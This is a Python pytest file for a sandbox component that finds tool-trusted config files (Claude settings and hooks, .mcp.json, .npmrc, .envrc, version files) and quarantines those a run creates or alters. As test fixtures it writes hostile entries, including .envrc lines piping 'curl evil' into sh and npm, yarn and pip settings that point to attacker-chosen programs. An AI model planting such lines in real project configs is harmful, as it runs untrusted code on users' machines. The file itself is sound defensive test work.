"""heldfiles: the held entries a walk finds, the pins they become, and what is moved to
the quarantine when the payload made one (real files; the parses in-process, as the
unit tests allow)."""

from __future__ import annotations

import errno
import os
from collections.abc import Iterable
from pathlib import Path

import pytest

from boxy.errors import SetupError
from boxyd.config import hostrun
from boxyd.gitguard import discover
from boxyd.gitguard.quarantine import Budget
from boxyd.kernel import walk
from boxyd.plan import heldfiles
from boxyd.plan.heldfiles import Present


def found(root: Path, bounded: bool = False) -> dict[str, Present]:
    finder = heldfiles.Finder(str(root), bounded)
    fd = walk.open_root(str(root))
    try:
        discover.Walker(str(root), fd, observer=finder).run()
        finder.links(fd)
    finally:
        os.close(fd)
    return finder.found


def after(root: Path, before: dict[str, Present], q: Path, edit: Iterable[str] = ()) -> list[str]:
    budget = Budget(str(q.parent))
    return heldfiles.after(before, found(root), str(root), str(q), edit, budget)


def test_the_walk_finds_the_topmost_held_entries(tmp_path: Path) -> None:
    (tmp_path / ".claude/commands").mkdir(parents=True)
    (tmp_path / ".claude/settings.json").write_text("{}")
    (tmp_path / "pkg/.yarn/releases").mkdir(parents=True)
    (tmp_path / "node_modules/x/.claude").mkdir(parents=True)
    (tmp_path / "a.code-workspace").write_text("{}")
    (tmp_path / ".npmrc").write_text("fund=false\n")
    got = found(tmp_path)
    assert got == {
        ".claude": Present(".claude", "dir"),
        ".npmrc": Present(".npmrc", "file"),  # pinned whatever it holds
        "a.code-workspace": Present("a.code-workspace", "file"),
        "pkg/.yarn/releases": Present("pkg/.yarn/releases", "dir"),
    }


def test_pins_are_read_only_with_their_parents_mount_points(tmp_path: Path) -> None:
    entries = [
        Present(".claude", "dir"),
        Present("pkg/a/.npmrc", "file"),
        Present(".mcp.json", "symlink", "elsewhere"),  # not pinned: put back if replaced
        Present(".vscode", "dir"),
    ]
    pins = heldfiles.pins(entries, edit=[".vscode"])
    assert [(p.rel, p.kind, p.is_dir) for p in pins] == [
        (".claude", "ro", True),
        ("pkg", "self", True),
        ("pkg/a", "self", True),
        ("pkg/a/.npmrc", "ro", False),
    ]


def test_a_held_symlink_pins_its_target_in_the_tree(tmp_path: Path) -> None:
    (tmp_path / "conf").mkdir()
    (tmp_path / "conf/mcp.json").write_text("{}")
    (tmp_path / ".mcp.json").symlink_to("conf/mcp.json")
    (tmp_path / ".envrc").symlink_to("/etc/hostname")  # outside: nothing to pin
    got = found(tmp_path)
    assert got[".mcp.json"] == Present(
        ".mcp.json", "symlink", "conf/mcp.json", resolved="conf/mcp.json"
    )
    assert got["conf/mcp.json"] == Present("conf/mcp.json", "file", via=".mcp.json")
    assert got[".envrc"].type == "symlink" and len(got) == 3


def test_more_than_the_bound_refuses_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(heldfiles, "HELD_MAX", 3)
    for i in range(4):
        (tmp_path / f"p{i}").mkdir()
        (tmp_path / f"p{i}/.envrc").write_text("x")
    with pytest.raises(SetupError, match="more than 3 files that host tools obey"):
        found(tmp_path, bounded=True)
    assert len(found(tmp_path)) == 4  # the check after the run is never cut short


def test_what_the_run_made_is_quarantined_and_the_rest_left(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    work.mkdir()
    (work / ".vscode").mkdir()
    before = found(work)
    (work / ".vscode/tasks.json").write_text("{}")  # pinned: only the host writes there
    (work / ".claude/hooks").mkdir(parents=True)
    (work / ".claude/settings.json").write_text('{"hooks": {}}')
    (work / "sub").mkdir()
    (work / "sub/.mcp.json").write_text("{}")
    (work / ".npmrc").write_text("fund=false\n")  # runs nothing: left
    (work / ".python-version").write_text("3.12\n")  # a version, not a path: left
    lines = after(work, before, q)
    assert [ln.split(" (")[0] for ln in lines] == [
        f"quarantined {work}/.claude",
        f"quarantined {work}/sub/.mcp.json",
    ]
    assert (q / ".claude/settings.json").read_text() == '{"hooks": {}}'
    assert (q / "sub/.mcp.json").exists() and not (work / "sub/.mcp.json").exists()
    assert not (work / ".claude").exists() and (work / ".vscode/tasks.json").exists()
    assert (work / ".npmrc").exists() and (work / ".python-version").exists()


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        (".npmrc", "node-options=--require=./h.js\n", "npm runs or installs what node-options"),
        (".yarnrc.yml", "yarnPath: .yarn/releases/y.cjs\n", "yarn runs or installs what yarnPath"),
        ("pip.conf", "[global]\npython = /tmp/p\n", "pip runs or installs what python"),
        (".python-version", "/home/u/evil\n", "version managers run the program a path"),
        (".tool-versions", "nodejs path:./x\n", "version managers run the program a path"),
        ("rust-toolchain.toml", '[toolchain]\npath = "tc"\n', "version managers"),
        (".npmrc", "; pad\n" * (heldfiles.READ_MAX // 6 + 1), "npm reads it as its config, which"),
    ],
)
def test_configs_are_held_by_what_they_say(tmp_path: Path, name: str, data: str, why: str) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    work.mkdir()
    before = found(work)
    (work / name).write_text(data)
    lines = after(work, before, q)
    assert len(lines) == 1 and f"({why}" in lines[0], lines
    assert not (work / name).exists() and (q / name).read_text() == data


def test_hostile_configs_are_held_whole_and_never_raise(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    work.mkdir()
    before = found(work)
    for data in (b"[" * 100_000, b"{a: " * 100_000, b"a: 0x" + b"f" * 5000 + b"\n"):
        for name in ("pnpm-workspace.yaml", ".yarnrc.yml"):
            (work / name).write_bytes(data)
        after(work, before, q)  # held or not by its keys: never an exception


def test_a_replaced_symlink_is_quarantined_and_put_back(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    work.mkdir()
    (work / ".envrc").symlink_to("../shared/envrc")
    before = found(work)
    assert after(work, before, q) == []  # as it was: nothing
    (work / ".envrc").unlink()
    (work / ".envrc").write_text("curl x | sh\n")
    (lines,) = after(work, before, q)
    assert "the symlink that stood there is back" in lines
    assert os.readlink(work / ".envrc") == "../shared/envrc"
    assert (q / ".envrc").read_text() == "curl x | sh\n"


def test_edit_config_leaves_what_it_names(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    work.mkdir()
    before = found(work)
    (work / ".husky").mkdir()
    (work / ".husky/pre-commit").write_text("npx lint-staged\n")
    lines = after(work, before, q, edit=[".husky"])
    assert lines == [f"left {work}/.husky as the run made it (--edit-config)"]
    assert (work / ".husky/pre-commit").exists()


def test_a_directory_is_moved_whole_across_filesystems(tmp_path: Path) -> None:
    """The quarantine on another filesystem than the tree (EXDEV): copied, then removed."""
    shm = Path("/dev/shm") / f"held-{os.getpid()}"
    if not shm.parent.is_dir() or os.stat(shm.parent).st_dev == os.stat(tmp_path).st_dev:
        pytest.fail("the test needs /dev/shm on a filesystem of its own")
    work, q = tmp_path / "w", shm / "q/s/w"
    try:
        work.mkdir()
        before = found(work)
        (work / ".claude/hooks/deep").mkdir(parents=True)
        (work / ".claude/settings.json").write_text("{}")
        (work / ".claude/hooks/deep/x.sh").write_text("echo")
        (work / ".claude/link").symlink_to("/etc/passwd")
        (lines,) = after(work, before, q)
        assert lines.startswith(f"quarantined {work}/.claude")
        assert not (work / ".claude").exists()
        assert (q / ".claude/hooks/deep/x.sh").read_text() == "echo"
        assert os.readlink(q / ".claude/link") == "/etc/passwd"
    finally:
        import shutil

        shutil.rmtree(shm, ignore_errors=True)


def test_a_move_that_cannot_be_done_is_said(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q"
    work.mkdir()
    q.write_text("not a directory")  # the quarantine cannot be made
    (work / ".mcp.json").write_text("{}")
    got = heldfiles.hold(
        str(work), ".mcp.json", hostrun.NAMES[".mcp.json"], "", str(q / "s"), Budget(str(q))
    )
    assert got is not None and not got[1] and "could not be quarantined" in got[0]
    assert (work / ".mcp.json").exists()
    assert errno.ENOTDIR  # (the cause: q is a file)


def test_what_held_entries_lead_to_is_held_too(tmp_path: Path) -> None:
    """A symlink in a held directory, an absent target, a hard link: each a way to
    change what a pinned entry says without touching it."""
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    (work / ".claude").mkdir(parents=True)
    (work / "shared").mkdir()
    (work / "shared/claude.json").write_text("{}")
    (work / ".claude/settings.json").symlink_to("../shared/claude.json")
    (work / ".mcp.json").symlink_to("mcp.local.json")  # absent for now
    (work / "alias").write_text("fund=false\n")
    os.link(work / "alias", work / ".npmrc")
    before = found(work)
    assert before["shared/claude.json"] == Present("shared/claude.json", "file", via=".claude")
    assert before["mcp.local.json"] == Present("mcp.local.json", "absent", via=".mcp.json")
    assert before["alias"] == Present("alias", "file", via=".npmrc")
    pinned = {p.rel for p in heldfiles.pins(before.values(), [])}
    assert {".claude", "shared/claude.json", ".npmrc", "alias"} <= pinned
    assert "mcp.local.json" not in pinned
    (work / "mcp.local.json").write_text('{"mcpServers": {}}')  # made by the run
    (lines,) = after(work, before, q)
    assert lines.startswith(f"quarantined {work}/mcp.local.json (Claude Code starts")
    assert os.readlink(work / ".mcp.json") == "mcp.local.json"  # the user's link stays


def test_a_held_config_with_another_name_is_held_whole(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    work.mkdir()
    before = found(work)
    (work / "alias").write_text("fund=false\n")
    os.link(work / "alias", work / ".npmrc")  # harmless now; writable through alias
    (lines,) = after(work, before, q)
    assert "another name of it in the tree could change it unseen" in lines


def test_a_held_symlink_that_now_leads_elsewhere_is_moved(tmp_path: Path) -> None:
    work, q = tmp_path / "w", tmp_path / "q/s/w"
    (work / "conf.d").mkdir(parents=True)
    (work / "conf.d/envrc").write_text("export X=1\n")
    (work / "conf").symlink_to("conf.d")
    (work / ".envrc").symlink_to("conf/envrc")
    before = found(work)
    (work / "conf").unlink()  # the directory on its way swapped for the payload's
    (work / "conf").mkdir()
    (work / "conf/envrc").write_text("curl evil | sh\n")
    lines = after(work, before, q)
    assert any(ln.startswith(f"quarantined {work}/.envrc") for ln in lines), lines
    assert not os.path.lexists(work / ".envrc")
